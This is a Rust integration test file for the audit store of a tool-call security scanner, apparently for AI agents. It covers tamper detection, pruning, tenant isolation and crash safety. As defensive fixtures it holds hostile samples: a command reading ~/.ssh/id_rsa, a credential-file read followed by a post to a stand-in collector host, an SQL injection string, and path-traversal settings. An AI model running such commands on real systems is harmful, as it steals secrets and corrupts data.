//! The store of evaluations: what is in it, that it verifies whoever is killed, and what sessions remember from run to run.
//!
//! `CALLGATE_POSTGRES` is the address of a database of a PostgreSQL server, with the rights to make others: with the feature `postgres`,
//! what holds of a file is tried there too.

#![cfg(feature = "audit")]
#![expect(clippy::expect_used, reason = "a test says what must be there by expecting it")]

use std::collections::HashSet;
use std::ffi::OsStr;
use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::ops::ControlFlow;
use std::path::Path;
use std::thread;
use std::time::{Duration, Instant};

use callgate::audit::prune::Pruning;
use callgate::audit::query::Filter;
use callgate::audit::record::{Pending, Record};
use callgate::audit::store::Store;
use callgate::audit::{AuditError, Scope};
use callgate::finding::trail::{Step, call_key};
use callgate::knowledge::Sensitivity;
use callgate::value::store_place::StorePlace;
use callgate::value::time::DAY;
use callgate::value::verdict::Verdict;
use serde_json::{Value, json};
use tempfile::TempDir;

mod process;
#[path = "process/records.rs"]
mod records;

use process::{callgate_on as callgate, out as stdout, piped as command};
use records::{record, session};

/// The stores that a test tries, each empty: a file, and a database of a server of its own.
fn stores(home: &Path) -> Vec<String> {
    let file = home.join("a.db").display().to_string();
    std::iter::once(file).chain(server::database(None)).collect()
}

/// The place of that name.
fn place(name: &str) -> StorePlace {
    StorePlace::named(OsStr::new(name))
}

/// What stands in a store, changed by somebody: in a copy of it.
fn tampered(home: &Path, store: &str, statement: &str) -> String {
    if !store.starts_with("postgres") {
        let copy = home.join("copy.db");
        for name in ["copy.db-wal", "copy.db-shm"] {
            let _ = fs::remove_file(home.join(name));
        }
        fs::copy(store, &copy).expect("it is copied");
        let hostile = rusqlite::Connection::open(&copy).expect("it is opened");
        assert!(0 < hostile.execute(statement, []).expect("it is changed"), "{statement}");
        return copy.display().to_string();
    }
    let copy = server::database(Some(store)).expect("there is a server");
    assert!(0 < server::execute(&copy, statement), "{statement}");
    copy
}

#[cfg(feature = "postgres")]
mod server {
    use std::io::Write as _;
    use std::sync::atomic::{AtomicU32, Ordering};

    use postgres::{Client, NoTls};

    static COUNT: AtomicU32 = AtomicU32::new(0);

    /// A new database on the server of `CALLGATE_POSTGRES`, empty or as another one is.
    pub fn database(copied: Option<&str>) -> Option<String> {
        let Ok(address) = std::env::var("CALLGATE_POSTGRES") else {
            let _ = std::io::stderr().write_all(b"SKIPPED: CALLGATE_POSTGRES names no server, so only a file is tried\n");
            return None;
        };
        let name = format!("callgate_test_{}_{}", std::process::id(), COUNT.fetch_add(1, Ordering::Relaxed));
        let template = copied.map_or("template0", |copied| copied.rsplit_once('/').expect("it names a database").1);
        let mut client = Client::connect(&address, NoTls).expect("the server of CALLGATE_POSTGRES answers");
        client.batch_execute(&format!("DROP DATABASE IF EXISTS {name}")).expect("it may be dropped");
        client.batch_execute(&format!("CREATE DATABASE {name} TEMPLATE {template}")).expect("it may be made");
        let (server, _) = address.rsplit_once('/').expect("CALLGATE_POSTGRES names a database");
        Some(format!("{server}/{name}"))
    }

    pub fn execute(store: &str, statement: &str) -> u64 {
        let mut client = Client::connect(store, NoTls).expect("the server answers");
        client.batch_execute("SET search_path = callgate").expect("it is set");
        client.execute(statement, &[]).expect("it is changed")
    }
}

#[cfg(not(feature = "postgres"))]
mod server {
    pub fn database(_: Option<&str>) -> Option<String> {
        None
    }

    pub fn execute(_: &str, _: &str) -> u64 {
        0
    }
}

/// All that is exported of a store.
fn exported(home: &Path, store: &str, words: &[&str]) -> Vec<Value> {
    let output = callgate(home, &[&["audit", "export", "--store", store], words].concat(), "");
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    stdout(&output).lines().map(|line| serde_json::from_str(line).expect("a line is JSON")).collect()
}

fn verifies(home: &Path, store: &str) -> bool {
    let output = callgate(home, &["audit", "verify", "--store", store], "");
    assert!(matches!(output.status.code(), Some(0 | 2)), "{output:?}");
    output.status.code() == Some(0)
}

/// A call of a tool as a line.
fn call(number: usize, session: &str) -> String {
    json!({"id": format!("call-{number}"), "name": "notes:list", "arguments": {"page": number}, "session_id": session}).to_string()
}

fn all(store: &Store) -> Vec<Record> {
    let mut records = Vec::new();
    let visited = store.visit(&Filter::default(), |kept| {
        records.push(kept.record);
        ControlFlow::Continue(())
    });
    visited.expect("the store is read");
    records
}

#[test]
fn what_is_written_is_read_and_verifies_and_what_is_changed_does_not() {
    let home = TempDir::new().expect("a folder can be made");
    for name in stores(home.path()) {
        let mut store = Store::open(place(&name)).expect("a store is made");
        let batch: Vec<Pending> = (0..50).map(|at| record(at, if at % 3 == 0 { Verdict::Block } else { Verdict::Allow })).collect();
        store.append(&batch).expect("it is written");
        assert_eq!(all(&store), batch.iter().map(|pending| pending.record.clone()).collect::<Vec<_>>());
        for (nth, is_bad) in [(0, true), (1, false), (0, false), (3, true)] {
            assert!(store.label(batch[nth].record.id, is_bad, Some("seen"), 7).expect("it is labelled"));
        }
        let verified = store.verify().expect("it is read");
        assert_eq!((verified.broken, verified.chains.len()), (None, 2));
        store.settle().expect("it is written");
        drop(store);
        for statement in [
            "UPDATE record SET verdict = 1 WHERE seq = 1",
            "UPDATE record SET path = 'other.js' WHERE seq = 20",
            "DELETE FROM record WHERE seq = 25",
            "DELETE FROM record WHERE seq = 50",
            "UPDATE name SET text = 'wildcard-query' WHERE text = 'loop-fan-out'",
            "UPDATE record SET accepted_count = 3 WHERE seq = 2",
            "UPDATE record SET hash = (SELECT hash FROM record WHERE seq = 1) WHERE seq = 49",
            "UPDATE label SET is_bad = 1 - is_bad",
            "UPDATE label SET note = 'other'",
            "DELETE FROM label WHERE is_bad = 1",
            "DELETE FROM labelling WHERE seq = 2",
            "DELETE FROM labelling WHERE seq = 4",
            "UPDATE labelling SET note = NULL WHERE seq = 1",
            "INSERT INTO label (evaluation_id, is_bad, at) SELECT evaluation_id, 0, 1 FROM record WHERE seq = 9",
        ] {
            let copy = tampered(home.path(), &name, statement);
            let broken = Store::open(place(&copy)).expect("it is a store").verify().expect("it is read").broken;
            assert!(broken.is_some(), "{statement}");
        }
    }
}

#[test]
fn pruning_takes_the_beginning_of_each_chain_and_the_rest_verifies() {
    let home = TempDir::new().expect("a folder can be made");
    for name in stores(home.path()) {
        let mut store = Store::open(place(&name)).expect("a store is made");
        let batch: Vec<Pending> =
            (0..100).map(|day| record(day * DAY, if day % 2 == 0 { Verdict::Warn } else { Verdict::Allow })).collect();
        store.append(&batch).expect("it is written");
        for nth in [2, 40, 4, 98] {
            store.label(batch[nth].record.id, true, None, 0).expect("it is labelled");
        }
        let pruning = Pruning { before: Some(20 * DAY), clean_before: Some(90 * DAY), ..Pruning::default() };
        let dry = store.prune(&Pruning { is_dry: true, ..pruning.clone() }, 0).expect("it is read");
        let pruned = store.prune(&pruning, 0).expect("it is pruned");
        assert_eq!((pruned, pruned.evaluations, pruned.clean), (dry, 10, 45));
        let (left, verified) = (all(&store), store.verify().expect("it is read"));
        assert!(left.len() == 45 && left.iter().all(|record| 20 * DAY <= record.at), "{left:?}");
        assert!(verified.broken.is_none(), "{verified:?}");
        store.append(&[record(100 * DAY, Verdict::Block)]).expect("it goes on");
        store.prune(&Pruning { keep: Some(3), ..Pruning::default() }, 0).expect("it is pruned");
        assert_eq!(all(&store).iter().filter(|record| !record.is_clean()).count(), 3);
        assert!(store.verify().expect("it is read").broken.is_none());
    }
}

/// An evaluation in a session that made these calls.
fn in_session(at: i64, session: &str, calls: &[&str], reads: &[Sensitivity]) -> Pending {
    let mut pending = record(at, Verdict::Allow);
    pending.record.session = Some(self::session(session));
    let calls = calls.iter().map(|call| call_key(call)).collect();
    pending.step = Step { session: Some(session.to_owned()), calls, reads: reads.iter().copied().collect() };
    pending
}

#[test]
fn what_is_remembered_of_sessions_is_what_their_evaluations_say() {
    let home = TempDir::new().expect("a folder can be made");
    for name in stores(home.path()) {
        let mut store = Store::open(place(&name)).expect("a store is made");
        let batch = [
            in_session(1, "s", &["list", "get", "list"], &[]),
            in_session(2, "s", &["list"], &[Sensitivity::Authentication]),
            in_session(3, "t", &[], &[]),
            record(4, Verdict::Block),
        ];
        store.append(&batch).expect("it is written");
        assert_eq!(store.verify().expect("it is read").broken, None);
        store.settle().expect("it is written");
        drop(store);
        let (list, sessions) = (call_key("list"), "(SELECT min(id) FROM session)");
        for statement in [
            format!("UPDATE session_call SET count = 900 WHERE call = {list}"),
            format!("UPDATE session_call SET count = 1 WHERE call = {list}"),
            "DELETE FROM session_call".to_owned(),
            "DELETE FROM session_read".to_owned(),
            format!("INSERT INTO session_call (session, call, count) VALUES ({sessions}, 77, 5)"),
            "INSERT INTO session_call (session, call, count) SELECT max(id), 77, 5 FROM session".to_owned(),
            format!("INSERT INTO session_read (session, kind, last_at) SELECT {sessions}, min(id), 1 FROM name"),
            "UPDATE record SET step = '' WHERE seq = 1".to_owned(),
            "UPDATE record SET step = NULL WHERE seq = 1".to_owned(),
        ] {
            let copy = tampered(home.path(), &name, &statement);
            let broken = Store::open(place(&copy)).expect("it is a store").verify().expect("it is read").broken;
            assert!(broken.is_some(), "{statement}");
        }
        // Where records were taken out, sessions remember more than the others say, and never less.
        let mut store = Store::open(place(&name)).expect("it is a store");
        store.prune(&Pruning { clean_before: Some(2), ..Pruning::default() }, 5).expect("it is pruned");
        assert_eq!(store.verify().expect("it is read").broken, None);
        store.append(&[in_session(6, "s", &["list"], &[])]).expect("it goes on");
        assert_eq!(store.verify().expect("it is read").broken, None);
        store.settle().expect("it is written");
        drop(store);
        let copy = tampered(home.path(), &name, &format!("UPDATE session_call SET count = 1 WHERE call = {list}"));
        assert!(Store::open(place(&copy)).expect("it is a store").verify().expect("it is read").broken.is_some());
    }
}

#[test]
fn two_tenants_see_nothing_of_each_other() {
    let home = TempDir::new().expect("a folder can be made");
    for name in stores(home.path()) {
        let mut store = Store::open(place(&name)).expect("a store is made");
        let of = |tenant: &str, at| {
            let mut pending = record(at, Verdict::Block);
            pending.record.tenant = Some(tenant.to_owned());
            pending.record.session = Some(session("s"));
            pending.step = Step { session: Some("s".to_owned()), calls: vec![call_key(tenant)], ..Step::default() };
            pending
        };
        store.append(&[of("a", 1), of("b", 2), of("a", 3)]).expect("it is written");
        let seen = |scope: Scope| {
            let mut times = Vec::new();
            let filter = Filter { scope: Some(scope), ..Filter::default() };
            let visited = store.visit(&filter, |kept| {
                times.push(kept.record.at);
                ControlFlow::Continue(())
            });
            visited.expect("the store is read");
            times
        };
        let in_session = |tenant: &str| Scope { session: Some("s".to_owned()), ..Scope::of_tenant(Some(tenant)) };
        assert_eq!((seen(in_session("a")), seen(in_session("b"))), (vec![1, 3], vec![2]));
        assert_eq!(seen(Scope::default()), Vec::<i64>::new());
        let past = |tenant: &str| store.past(Some(tenant), "s").expect("it is read").calls;
        assert_eq!((past("a").get(&call_key("a")), past("a").get(&call_key("b"))), (Some(&2), None));
        assert_eq!(past("b").get(&call_key("b")), Some(&1));
        let newest = Filter { scope: Some(Scope::of_tenant(Some("a"))), ..Filter::default() };
        assert_eq!(store.newest(&newest, 1).expect("it is read").rows.len(), 1);
        let sessions = store.newest_sessions(&newest, 9).expect("it is read").rows;
        assert_eq!(sessions.iter().map(|session| session.verdicts).collect::<Vec<_>>(), [[0, 0, 2]]);
    }
}

#[test]
fn whoever_writes_beside_is_noticed() {
    let home = TempDir::new().expect("a folder can be made");
    for name in stores(home.path()) {
        let (mut own, mut other) = (Store::open(place(&name)).expect("a store is made"), Store::open(place(&name)).expect("it is opened"));
        let before = own.version().expect("it is read");
        own.append(&[record(1, Verdict::Block)]).expect("it is written");
        assert_eq!(own.version().expect("it is read"), before);
        other.append(&[record(2, Verdict::Block)]).expect("it is written");
        assert!(![0, before].contains(&own.version().expect("it is read")));
    }
}

#[test]
fn an_old_store_becomes_one_of_this_version_with_its_labels() {
    let home = TempDir::new().expect("a folder can be made");
    let path = home.path().join("a.db");
    let mut store = Store::open(&path).expect("a store is made");
    let batch = [record(1, Verdict::Block), record(2, Verdict::Block)];
    store.append(&batch).expect("it is written");
    store.label(batch[0].record.id, true, Some("seen"), 7).expect("it is labelled");
    store.settle().expect("it is written");
    drop(store);
    let old = rusqlite::Connection::open(&path).expect("it is opened");
    old.execute_batch(
        "DROP TABLE labelling; DROP VIEW evaluations; DROP INDEX record_time; CREATE INDEX record_time ON record (tenant, at);
        ALTER TABLE record DROP COLUMN step; ALTER TABLE record DROP COLUMN accepted; ALTER TABLE record DROP COLUMN accepted_count; DELETE FROM chain WHERE is_clean = 2; PRAGMA user_version = 3",
    )
    .expect("it is as it was");
    drop(old);
    let store = Store::open(&path).expect("it is made anew");
    assert_eq!(store.verify().expect("it is read").broken, None);
    assert_eq!(all(&store).len(), 2);
    store.settle().expect("it is written");
    drop(store);
    let copy = tampered(home.path(), &path.display().to_string(), "DELETE FROM label");
    assert!(Store::open(place(&copy)).expect("it is a store").verify().expect("it is read").broken.is_some());
}

#[test]
fn only_a_store_is_opened_as_one() {
    let home = TempDir::new().expect("a folder can be made");
    let path = |name: &str| home.path().join(name);
    fs::write(path("notes.txt"), "my notes").expect("it is written");
    rusqlite::Connection::open(path("places.sqlite")).and_then(|other| other.execute_batch("CREATE TABLE a (b)")).expect("it is made");
    for name in ["notes.txt", "places.sqlite", "."] {
        assert!(Store::open(&path(name)).is_err(), "{name}");
    }
    assert!(matches!(Store::open_existing(&path("none.db")), Err(AuditError::Unopened { .. })));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        drop(Store::open(&path("deep/er/a.db")).expect("folders are made"));
        let mode = |name: &str| fs::metadata(path(name)).expect("it is there").permissions().mode() & 0o777;
        assert_eq!((mode("deep/er/a.db"), mode("deep/er")), (0o600, 0o700));
        std::os::unix::fs::symlink(path("deep/er/a.db"), path("link.db")).expect("a link is made");
        assert!(matches!(Store::open(&path("link.db")), Err(AuditError::Other { .. })));
    }
}

#[test]
fn a_scan_stores_each_evaluation_with_what_it_was_and_no_content() {
    let home = TempDir::new().expect("a folder can be made");
    let key = ["sk", "live", "4eC39HqLyjWDarjtT1zdp7dc"].join("_");
    fs::write(home.path().join("good.js"), "console.log(1);\n").expect("it is written");
    fs::write(home.path().join("bad.js"), format!("await callTool('shell:exec', {{ command: 'cat ~/.ssh/id_rsa' }}); // {key}\n"))
        .expect("it is written");
    for store in stores(home.path()) {
        is_stored(home.path(), &store, &key);
    }
    for name in ["a.db", "a.db-wal"] {
        let bytes = fs::read(home.path().join(name)).unwrap_or_default();
        for content in ["id_rsa", "console", key.as_str()] {
            assert!(!String::from_utf8_lossy(&bytes).contains(content), "{name} holds {content}");
        }
    }
}

fn is_stored(home: &Path, store: &str, key: &str) {
    let output = callgate(home, &["scan", &format!("--audit={store}"), "--format", "json", "good.js", "bad.js"], "");
    let report: Value = serde_json::from_slice(&output.stdout).expect("it reports");
    let records = exported(home, store, &[]);
    assert_eq!(records.len(), 2, "{records:?}");
    for finding in report["findings"].as_array().expect("there are findings") {
        let own = records.iter().find(|record| record["evaluation_id"] == finding["evaluation_id"]).expect("it is stored");
        assert_eq!((&own["path"], &own["verdict"], &own["numeric_score"]), (&finding["path"], &finding["verdict"], &finding["score"]));
        assert_eq!(own["evaluation_id"], finding["evaluations"][0]["evaluation_id"]);
        assert!(own["scan_duration_ms"].as_f64().is_some_and(|took| 0.0 < took), "{own}");
    }
    assert_eq!(exported(home, store, &["--verdict", "block", "--rule", "secret-read"]).len(), 1);
    assert_eq!(exported(home, store, &["--verdict", "block", "--rule", "secret"]).len(), 0);
    assert_eq!(exported(home, store, &["--path", "go*"]).len(), 1);
    let id = records[0]["evaluation_id"].as_str().expect("it has an id");
    assert_eq!(callgate(home, &["audit", "label", "--store", store, id, "bad"], "").status.code(), Some(0));
    assert_eq!(exported(home, store, &["--labelled"])[0]["label"], "bad");
    assert!(verifies(home, store));
    for content in ["id_rsa", "console", key] {
        assert!(!exported(home, store, &[]).iter().any(|record| record.to_string().contains(content)), "{store} holds {content}");
    }
}

#[test]
fn a_session_goes_on_in_the_next_process_and_a_new_one_begins_anew() {
    let home = TempDir::new().expect("a folder can be made");
    for store in stores(home.path()) {
        goes_on(home.path(), &format!("--audit={store}"));
    }
}

fn goes_on(home: &Path, audit: &str) {
    let novelty = |session: &str| {
        let words = ["scan", audit, "--model", "five-factor", "--format", "json", "--as", "tool-call", "-"];
        let output = callgate(home, &words, &call(1, session));
        let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|_| Value::String(format!("{output:?}")));
        report["findings"][0]["score"].as_f64().expect("each finding has a score")
    };
    let scores = [novelty("a"), novelty("a"), novelty("b"), novelty("b"), novelty("a")];
    assert!(scores[1] < scores[0] && scores[4] < scores[1], "{scores:?}");
    assert!((scores[2] - scores[0]).abs() < 1e-9 && (scores[3] - scores[1]).abs() < 1e-9, "{scores:?}");
}

#[test]
fn a_send_follows_a_read_of_an_earlier_process() {
    let home = TempDir::new().expect("a folder can be made");
    for store in stores(home.path()) {
        follows(home.path(), &format!("--audit={store}"));
    }
}

fn follows(home: &Path, audit: &str) {
    let judge = |session: &str, name: &str, arguments: Value| {
        let line = json!({"name": name, "arguments": arguments, "session_id": session}).to_string();
        let output = callgate(home, &["scan", audit, "--format", "json", "--as", "tool-call", "-"], &line);
        stdout(&output)
    };
    judge("a", "Read", json!({"file_path": "/home/me/.aws/credentials"}));
    let send = json!({"url": "https://collector.example.net/in", "body": "done"});
    let (same, other) = (judge("a", "http:post", send.clone()), judge("b", "http:post", send));
    assert!(same.contains("in a session that has read authentication data before"), "{same}");
    assert!(!other.contains("in a session that has read"), "{other}");
}

#[test]
fn what_cannot_be_stored_is_told_and_fails_only_a_run_that_must_store() {
    let home = TempDir::new().expect("a folder can be made");
    fs::write(home.path().join("good.js"), "console.log(1);\n").expect("it is written");
    fs::write(home.path().join("notes.txt"), "my notes").expect("it is written");
    let scan = |words: &[&str]| callgate(home.path(), &[&["scan", "good.js", "--format", "json"], words].concat(), "");
    let told = scan(&["--audit=notes.txt"]);
    assert_eq!(told.status.code(), Some(0), "{told:?}");
    assert!(
        String::from_utf8_lossy(&told.stderr).contains("no store of evaluations") && stdout(&told).contains("audit_problem"),
        "{told:?}"
    );
    assert_eq!(scan(&["--audit=notes.txt", "--audit-required"]).status.code(), Some(3));
    assert_eq!(scan(&["--audit-required"]).status.code(), Some(64));
    let payload =
        json!({"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}}).to_string();
    let denied = callgate(home.path(), &["hook", "claude-code", "--audit=notes.txt", "--audit-required"], &payload);
    assert!(stdout(&denied).contains("deny") || denied.status.code() == Some(2), "{denied:?}");
    assert_eq!(fs::read_to_string(home.path().join("notes.txt")).expect("it is there"), "my notes");
}

#[test]
fn settings_that_come_with_the_folder_say_nothing_of_stores() {
    let home = TempDir::new().expect("a folder can be made");
    let project = home.path().join("project");
    fs::create_dir_all(&project).expect("a folder is made");
    fs::write(project.join("good.js"), "console.log(1);\n").expect("it is written");
    let scan = |words: &[&str], variable: &str| {
        let words = [&["scan", "good.js"], words].concat();
        let output = command(home.path(), &words).current_dir(&project).env("CALLGATE_AUDIT", variable).output().expect("it runs");
        output.status.code()
    };
    let store = home.path().join("own.db");
    let own = store.to_str().expect("it is a text");
    assert_eq!((scan(&[], own), store.exists()), (Some(0), true));
    for hostile in ["audit: {path: ../../x.db}", "audit: {enabled: false}", "audit: {path: 'postgres://me@127.0.0.1:1/x'}"] {
        fs::write(project.join("callgate.yaml"), hostile).expect("it is written");
        assert_eq!(scan(&[], own), Some(3), "{hostile}");
        assert!(!home.path().join("x.db").exists());
    }
    fs::remove_file(project.join("callgate.yaml")).expect("it is there");
    let settings = home.path().join("named.yaml");
    fs::write(&settings, "audit: {path: named.db}").expect("it is written");
    assert_eq!(scan(&["--config", settings.to_str().expect("it is a text")], ""), Some(0));
    assert!(home.path().join("named.db").exists());
    assert_eq!(scan(&["--audit", "good.js"], ""), Some(64), "a script is no store");
}

/// So many processes answer so many lines each into one store, and half of them are killed at some time. What was answered is
/// stored, once, and the store verifies.
fn killed(home: &Path, store: &str, processes: usize, lines: usize) {
    let start = Instant::now();
    let answered: Vec<(usize, bool, HashSet<usize>)> = thread::scope(|scope| {
        let runs: Vec<_> = (0..processes).map(|process| (process, scope.spawn(move || answered_by(home, store, process, lines)))).collect();
        runs.into_iter()
            .map(|(process, run)| {
                let (is_killed, answered) = run.join().expect("it ends");
                (process, is_killed, answered)
            })
            .collect()
    });
    let took = start.elapsed();
    assert!(verifies(home, store));
    let mut stored: HashSet<(String, String)> = HashSet::new();
    for record in exported(home, store, &[]) {
        let text = |key: &str| record[key].as_str().unwrap_or_default().to_owned();
        assert!(stored.insert((text("session_id"), text("tool_call_id"))), "twice: {record}");
    }
    let mut completed = 0;
    for (process, is_killed, answered) in answered {
        completed += answered.len();
        for number in &answered {
            assert!(
                stored.contains(&(format!("s{process}"), format!("call-{number}"))),
                "{process} {number} was answered and is not stored"
            );
        }
        assert!(is_killed || answered.len() == lines, "{process} answered {} of {lines}", answered.len());
    }
    let told = format!("{processes} processes, {completed} answered, {} stored, {took:?}\n", stored.len());
    let _ = std::io::stderr().write_all(told.as_bytes());
}

/// The calls that a process answered, and whether it was killed.
fn answered_by(home: &Path, store: &str, process: usize, lines: usize) -> (bool, HashSet<usize>) {
    let audit = format!("--audit={store}");
    let mut child =
        command(home, &["scan", &audit, "--format", "jsonl", "--verbose", "--as", "tool-call", "-"]).spawn().expect("it starts");
    let mut stdin = child.stdin.take().expect("it has an input");
    let reader = BufReader::new(child.stdout.take().expect("it has an output"));
    let input: String = (0..lines).map(|number| format!("{}\n", call(number, &format!("s{process}")))).collect();
    let writer = thread::spawn(move || {
        // One that is killed reads no further.
        let _ = stdin.write_all(input.as_bytes());
    });
    let is_killed = process % 2 == 1;
    let after = lines * (process * 7 % 10 + 1) / 12;
    let mut answered = HashSet::new();
    for line in reader.lines().map_while(Result::ok) {
        let answer: Value = serde_json::from_str(&line).unwrap_or_default();
        if let Some(number) = answer["record"]["id"].as_str().and_then(|id| id.strip_prefix("call-")?.parse().ok()) {
            answered.insert(number);
        }
        if is_killed && after <= answered.len() {
            let _ = child.kill();
        }
    }
    let _ = child.wait();
    let _ = writer.join();
    (is_killed, answered)
}

#[test]
fn killed_processes_lose_nothing_that_they_answered() {
    let home = TempDir::new().expect("a folder can be made");
    stores(home.path()).iter().for_each(|store| killed(home.path(), store, 8, 60));
}

#[test]
#[ignore = "takes a while: cargo test --release --test audit -- --ignored --nocapture"]
fn many_killed_processes_lose_nothing_that_they_answered() {
    let home = TempDir::new().expect("a folder can be made");
    stores(home.path()).iter().for_each(|store| killed(home.path(), store, 20, 500));
}

#[test]
#[ignore = "takes a while: cargo test --release --test audit -- --ignored --nocapture"]
fn a_million_evaluations_are_written_fast_lie_close_and_are_counted_at_once() {
    let home = TempDir::new().expect("a folder can be made");
    let path = home.path().join("a.db");
    let mut store = Store::open(&path).expect("a store is made");
    let verdict = |at: i64| {
        if at % 10 == 0 {
            Verdict::Block
        } else if at % 10 == 1 {
            Verdict::Warn
        } else {
            Verdict::Allow
        }
    };
    let start = Instant::now();
    let mut writing = Duration::ZERO;
    for batch in 0..1_000 {
        let batch: Vec<Pending> = (0..1_000).map(|nth| batch * 1_000 + nth).map(|at| record(at * 8_000, verdict(at))).collect();
        let own = Instant::now();
        store.append(&batch).expect("it is written");
        writing += own.elapsed();
    }
    let written = start.elapsed();
    let start = Instant::now();
    let days = store.days(&Filter { scope: Some(Scope::default()), ..Filter::default() }).expect("it is read");
    let counted = start.elapsed();
    let start = Instant::now();
    let rules = store.rules(&Filter { scope: Some(Scope::default()), ..Filter::default() }).expect("it is read");
    let by_rule = start.elapsed();
    let start = Instant::now();
    let all = Filter { scope: Some(Scope::default()), ..Filter::default() };
    let trends = store.trends(&all, callgate::history::period::Unit::Day, 7 * DAY, 1_000_000 * 8_000).expect("it is read");
    let trended = start.elapsed();
    assert_eq!(trends.total.evaluations(), 1_000_000);
    let start = Instant::now();
    assert!(store.verify().expect("it is read").broken.is_none());
    let verified = start.elapsed();
    drop(store);
    let size = fs::metadata(&path).expect("it is there").len();
    let told = format!(
        "written in {writing:?} (with making them {written:?}), {size} bytes, {} days in {counted:?}, {} rules in {by_rule:?}, trends in {trended:?}, \
        verified in {verified:?}\n",
        days.len() / 3,
        rules.len()
    );
    let _ = std::io::stderr().write_all(told.as_bytes());
    assert_eq!(days.iter().map(|count| count.evaluations).sum::<u64>(), 1_000_000);
    assert!(size < 300_000_000, "{size}");
}

#[test]
fn what_is_accepted_is_stored_and_is_no_clean_pass() {
    let home = TempDir::new().expect("a folder can be made");
    let text =
        "// callgate: ignore[secret-read] the key of the test machine\nawait callTool('shell:exec', { command: 'cat ~/.ssh/id_rsa' });\n";
    fs::write(home.path().join("run.js"), text).expect("it is written");
    for store in stores(home.path()) {
        let output = callgate(home.path(), &["scan", &format!("--audit={store}"), "run.js", "--exit-zero"], "");
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        let records = exported(home.path(), &store, &["--no-clean"]);
        assert_eq!(records.len(), 1, "{records:?}");
        let accepted = records[0]["accepted_patterns"].as_str().unwrap_or_default();
        assert!(accepted.contains("secret-read") && records[0]["accepted_count"] == 1, "{records:?}");
        assert!(verifies(home.path(), &store));
    }
}

#[test]
fn a_server_answers_as_a_file_does() {
    let home = TempDir::new().expect("a folder can be made");
    let names = stores(home.path());
    let batch: Vec<Pending> = (0..400)
        .map(|nth| {
            let mut pending = record(nth * DAY / 50, if nth % 5 == 0 { Verdict::Block } else { Verdict::Allow });
            let record = &mut pending.record;
            record.tenant = (nth % 3 == 0).then(|| "a".to_owned());
            record.agent = (nth % 2 == 0).then(|| "codex".to_owned());
            record.session = (nth % 4 == 0).then(|| callgate::audit::record::SessionName {
                key: callgate::finding::trail::text_key("s"),
                text: "s\u{1F600}'; DROP TABLE record; --".to_owned(),
            });
            record.scores = (nth % 7 == 0).then(|| "hybrid 40 warn;numeric 35 allow".to_owned());
            record.undetermined = (nth % 11 == 0).then(|| "too-deep".into());
            pending
        })
        .collect();
    let answers = |name: &str| {
        let mut store = Store::open(place(name)).expect("a store is made");
        batch.chunks(33).for_each(|part| store.append(part).expect("it is written"));
        let a = Filter { scope: Some(Scope::of_tenant(Some("a"))), ..Filter::default() };
        let in_session = Scope { session: Some("s".to_owned()), agent: Some("codex".to_owned()), ..Scope::of_tenant(None) };
        let filters = [
            Filter::default(),
            Filter { rule: Some("secret-read".to_owned()), ..a.clone() },
            Filter { rule: Some("loop-fan-out".to_owned()), ..Filter::default() },
            Filter { path: Some("src/*/area-[1-3]*.js".to_owned()), ..Filter::default() },
            Filter { path: Some("src/feature?/area-1?/*".to_owned()), ..Filter::default() },
            Filter { verdict: Some(Verdict::Block), since: Some(DAY), until: Some(5 * DAY), ..a.clone() },
            Filter { scope: Some(in_session), without_clean: true, ..Filter::default() },
            Filter { limit: Some(7), is_labelled: false, ..a },
        ];
        let mut told = String::new();
        for filter in filters {
            let mut found = Vec::new();
            let visited = store.visit(&filter, |kept| {
                found.push((kept.record.at, kept.hash));
                ControlFlow::Continue(())
            });
            visited.expect("the store is read");
            let trends = store.trends(&filter, callgate::history::period::Unit::Day, 2 * DAY, 8 * DAY).expect("it is read");
            let mut days = store.days(&filter).expect("it is read");
            days.sort_by_key(|count| (count.day, count.verdict));
            let (rules, sessions) = (store.rules(&filter).expect("it is read"), store.newest_sessions(&filter, 9).expect("it is read"));
            told.push_str(&format!("{filter:?}\n{found:?}\n{trends:?}\n{days:?}\n{rules:?}\n{sessions:?}\n"));
        }
        told.push_str(&format!("{:?}\n", store.counters(Some("a")).expect("it is read")));
        let head = store.verify().expect("it is read");
        let hash = callgate::audit::chain::hex(&head.chains[0].head);
        assert!(store.has_hash(&hash).expect("it is read") && !store.has_hash("00").expect("it is read"));
        assert!(store.prune_daily(&Pruning { before: Some(2 * DAY), ..Pruning::default() }, DAY).expect("it is pruned"));
        assert!(!store.prune_daily(&Pruning::default(), DAY).expect("it is read"));
        told.push_str(&format!("{head:?}\n{:?}\n", store.verify().expect("it is read")));
        told
    };
    let told: Vec<String> = names.iter().map(|name| answers(name)).collect();
    for (file, server) in told.iter().skip(1).flat_map(|server| told[0].lines().zip(server.lines())) {
        assert_eq!(file, server);
    }
    assert!(told[0].lines().count() > 40);
}

#[test]
fn the_log_of_many_short_runs_stays_short() {
    let home = TempDir::new().expect("a folder can be made");
    let path = home.path().join("a.db");
    for nth in 0..300 {
        let mut store = Store::open(&path).expect("a store is made");
        store.append(&[record(nth, Verdict::Block)]).expect("it is written");
        store.settle_if_long().expect("it is settled");
    }
    let log = fs::metadata(home.path().join("a.db-wal")).map_or(0, |log| log.len());
    assert!(log < 2 << 20, "{log}");
    assert_eq!(all(&Store::open(&path).expect("it is opened")).len(), 300);
}
